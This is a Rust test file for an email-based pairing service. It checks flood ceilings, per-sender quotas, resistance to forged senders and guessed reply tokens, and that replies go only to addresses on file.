/// The ceiling holds for as long as the flood lasts, and not for its first hour alone.
#[test]
fn a_flood_that_goes_on_for_hours_does_not_grow_beyond_the_ceiling() {
    let dir = tempfile::tempdir().unwrap();
    let ceiling = 20;
    let mut config = config::built_in().on_maildirs(dir.path());
    config.settings.ceilings.stranger_letters_per_hour_open = ceiling;
    std::fs::create_dir_all(&config.state_dir).unwrap();
    let mut engine = Engine::open(config, keys_of(1), Durability::Rehearsal).unwrap();
    let ceiling = i64::from(ceiling);
    let flood = 6 * 2 * ceiling;
    for number in 0..flood {
        // Twice the ceiling an hour, for six hours.
        let at = open() + TimeDelta::seconds(number * 3_600 / (2 * ceiling));
        let from = format!("p{number}@victims.example");
        let number = usize::try_from(number).unwrap();
        arrive(
            &mut engine,
            &mail(&from, number, "", "I would like to apply."),
            at,
        );
    }
    let mut all = 0;
    for hour in 0..24 {
        let (from, to) = (
            open() + TimeDelta::hours(hour),
            open() + TimeDelta::hours(hour + 1),
        );
        let leave = count(
            &engine,
            &format!(
                "SELECT count(*) FROM outbox WHERE kind = 'form' AND due_at >= {} AND due_at < {}",
                from.timestamp(),
                to.timestamp()
            ),
        );
        assert!(leave <= ceiling, "hour {hour}: {leave}");
        all += leave;
    }
    assert_eq!(all, flood, "none is lost");
}

/// A letter of the sample database, so that an answer to it counts as its reader's.
fn token_of_the_topic(engine: &Engine, at: Moment) -> String {
    let db = rusqlite::Connection::open(engine.config().state_dir.join("pairpost.db")).unwrap();
    for (id, kind, person, to) in [
        (11, "topic", Some(1), "anna@library.example"),
        (12, "digest", None, "ada.martin@example.org"),
    ] {
        db.execute(
            "INSERT OR IGNORE INTO outbox (id, key, kind, person_id, about, envelope_from, envelope_to, message_id, reference,
               subject, unprompted, cause, state, created_at, due_at, sent_at, token_epoch)
             VALUES (?1, 'flood/' || ?1, ?2, ?3, '{}', ?5, ?4, ?1 || '@letters.test', 'flood-' || ?1, 's', 0, 'test', 'sent',
               ?6, ?6, ?6, coalesce((SELECT token_epoch FROM person WHERE id = ?3), 0))",
            (id, kind, person, to, ADDRESS, at.timestamp()),
        )
        .unwrap();
    }
    "<11@letters.test>".into()
}

fn states(engine: &Engine, state: &str) -> i64 {
    count(
        engine,
        &format!("SELECT count(*) FROM inbox WHERE state = '{state}'"),
    )
}

#[test]
fn a_flood_of_one_participants_mail_is_read_in_portions_and_delays_nobody() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), true);
    let mails = if long() { 5_000 } else { 500 };
    let at = now();
    let thread = format!("In-Reply-To: {}\r\n", token_of_the_topic(&engine, at));
    for number in 0..mails {
        let words = format!("Hello, a thought of mine, number {number}.");
        arrive(
            &mut engine,
            &mail("anna@library.example", number, &thread, &words),
            at,
        );
    }
    let read = |engine: &Engine| {
        count(
            engine,
            "SELECT count(*) FROM inbox WHERE person_id = 1 AND handled_at IS NOT NULL AND counted_as NOT IN ('', 'a-mark')",
        )
    };
    assert_eq!(read(&engine), 20);
    assert_eq!(states(&engine, "over-limit"), mails as i64 - 20);
    let to_anna = count(
        &engine,
        "SELECT count(*) FROM outbox WHERE person_id = 1 AND cause <> 'test' AND id > 1",
    );
    assert!(to_anna <= 4, "{to_anna} answers to {mails} mails");
    // Who has written in her name without any proof has taken nothing of what is hers, nor she of Bilal's.
    let question = "I have a question about the topic, can somebody write to me?";
    let bilal = arrive(
        &mut engine,
        &mail("bilal@library.example", mails + 1, "", question),
        at,
    );
    let of = |engine: &Engine, id: InboxId| -> String {
        let db = engine.store().reader();
        db.query_row("SELECT state FROM inbox WHERE id = ?1", [id.0], |row| {
            row.get(0)
        })
        .unwrap()
    };
    assert!(!["new", "over-limit"].contains(&of(&engine, bilal).as_str()));
    // What stops something is done at once.
    let stop = arrive(
        &mut engine,
        &mail("anna@library.example", mails + 2, &thread, "stop"),
        at,
    );
    assert_eq!(of(&engine, stop), "handled");
    assert_eq!(count(&engine, "SELECT stopped FROM person WHERE id = 1"), 1);
    let waiting = pairpost::store::waiting::everything(engine.store().reader()).unwrap();
    let floods: Vec<_> = waiting
        .iter()
        .filter(|it| matches!(it, pairpost::programme::facts::Waiting::Flood { .. }))
        .collect();
    assert_eq!(floods.len(), 1, "{floods:?}");
    // The next day brings the next ones, and a coordinator's word all of them.
    let next_day = at + TimeDelta::hours(25);
    while engine.handle_waiting(next_day, 50).unwrap() > 0 {}
    assert_eq!(states(&engine, "over-limit"), mails as i64 - 40);
    assert_eq!(states(&engine, "new"), 0);
    engine
        .command(
            Command {
                by: "command line".into(),
                what: CommandKind::ReadWaiting {
                    person: PersonId(1),
                },
                inbox: None,
                authority: Authority::Machine,
            },
            next_day,
        )
        .unwrap();
    while engine.handle_waiting(next_day, 50).unwrap() > 0 {}
    assert_eq!(states(&engine, "over-limit") + states(&engine, "new"), 0);
}

#[test]
fn mail_that_only_says_it_is_somebodys_uses_up_nothing_of_theirs() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), true);
    let thread = format!("In-Reply-To: {}\r\n", token_of_the_topic(&engine, now()));
    for number in 0..30 {
        let forged = mail("anna@library.example", number, "", "Hello, it is me.");
        arrive(&mut engine, &forged, now());
    }
    assert_eq!(states(&engine, "over-limit"), 10);
    let hers = mail("anna@library.example", 99, &thread, "topics off");
    arrive(&mut engine, &hers, now());
    assert_eq!(
        count(&engine, "SELECT topics_off FROM person WHERE id = 1"),
        1
    );
}

#[test]
fn a_coordinator_who_answers_our_letters_is_read_ten_times_as_often() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), true);
    token_of_the_topic(&engine, now());
    let thread = "In-Reply-To: <12@letters.test>\r\n";
    for number in 0..210 {
        let settle = mail("ada.martin@example.org", number, thread, "settle 999");
        arrive(&mut engine, &settle, now());
    }
    assert_eq!(states(&engine, "over-limit"), 10);
    // To stop everything is never too much.
    let pause = mail("ada.martin@example.org", 999, thread, "pause");
    arrive(&mut engine, &pause, now());
    assert_eq!(count(&engine, "SELECT count(*) FROM brake"), 1);
}

#[test]
fn whoever_guesses_reply_addresses_is_not_looked_at_for_a_day() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), true);
    let guess = |number: usize| {
        let token = format!("r{number:08}0000aaaaaaaaaaaaaaaa");
        let text = mail("mallory@evil.example", number, "", "withdraw");
        String::from_utf8(text).unwrap().replace(
            &format!("To: {ADDRESS}"),
            &format!("To: exchange+{token}@example.org"),
        )
    };
    let reason = |engine: &Engine, id: InboxId| -> String {
        engine
            .store()
            .reader()
            .query_row("SELECT reason FROM inbox WHERE id = ?1", [id.0], |row| {
                row.get(0)
            })
            .unwrap()
    };
    let mut ignored = 0;
    for number in 0..15 {
        let id = arrive(&mut engine, guess(number).as_bytes(), now());
        ignored += usize::from(reason(&engine, id).contains("guessed"));
    }
    assert_eq!(ignored, 5);
    let next_day = arrive(
        &mut engine,
        guess(99).as_bytes(),
        now() + TimeDelta::hours(25),
    );
    assert!(!reason(&engine, next_day).contains("guessed"));
}

#[test]
fn nothing_leaves_that_was_not_ordered() {
    // I10: letters go to addresses on file and to coordinators, whatever came in.
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), true);
    for (number, from) in ["anna@library.example", "carla@library.example"]
        .iter()
        .enumerate()
    {
        arrive(
            &mut engine,
            &mail(
                from,
                number,
                "Reply-To: victim@evil.example\r\n",
                "I would like to apply.",
            ),
            now(),
        );
    }
    for letter in engine
        .take_letters(now() + TimeDelta::days(1), 100)
        .unwrap()
    {
        assert_ne!(letter.envelope_to, "victim@evil.example");
        let accepted = Outcome::Accepted {
            reply: "250 ok".into(),
        };
        engine.delivered(&letter, &accepted, now()).unwrap();
    }
}

/// The table of faults and threats names tests that exist, one row for each, and gives a reason where one does not apply.
#[test]
fn the_table_of_faults_and_threats_names_tests_that_exist() {
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
    let readme = std::fs::read_to_string(manifest.join("tests/README.md")).unwrap();
    let rows: Vec<Vec<&str>> = readme
        .lines()
        .filter(|line| line.starts_with("| F") || line.starts_with("| T"))
        .map(|line| line.trim_matches('|').split('|').map(str::trim).collect())
        .filter(|cells: &Vec<&str>| cells.len() == 3 && cells[0][1..].parse::<u32>().is_ok())
        .collect();
    let has = |id: &str| rows.iter().filter(|cells| cells[0] == id).count();
    for number in 1..=30 {
        assert_eq!(has(&format!("T{number}")), 1, "T{number}");
    }
    // As soon as the faults are there, all of them are.
    if rows.iter().any(|cells| cells[0].starts_with('F')) {
        for number in 1..=30 {
            assert_eq!(has(&format!("F{number}")), 1, "F{number}");
        }
    }
    let sources = sources(manifest);
    let mut does_not_apply = 0;
    for cells in &rows {
        let (id, name, figure) = (cells[0], cells[1].trim_matches('`'), cells[2]);
        if let Some(reason) = name.strip_prefix("n/a:") {
            assert!(reason.trim().len() > 10, "{id}");
            does_not_apply += 1;
            continue;
        }
        assert!(!figure.is_empty(), "{id} has no figure");
        let function = name.rsplit("::").next().unwrap();
        let module = name.split("::").next().unwrap();
        let is_there = sources.iter().any(|(path, text)| {
            (path.contains(&format!("/{module}")) || path.contains("/src/"))
                && (text.contains(&format!("fn {function}("))
                    || text.contains(&format!("    {function},\n")))
        });
        assert!(is_there, "{id}: there is no test {name}");
    }
    assert!(does_not_apply <= 6, "{does_not_apply} rows do not apply");
}

fn sources(manifest: &Path) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut folders = vec![manifest.join("src"), manifest.join("tests/it")];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|it| it == "rs") {
                let text = std::fs::read_to_string(&path).unwrap();
                found.push((path.display().to_string(), text));
            }
        }
    }
    found
}
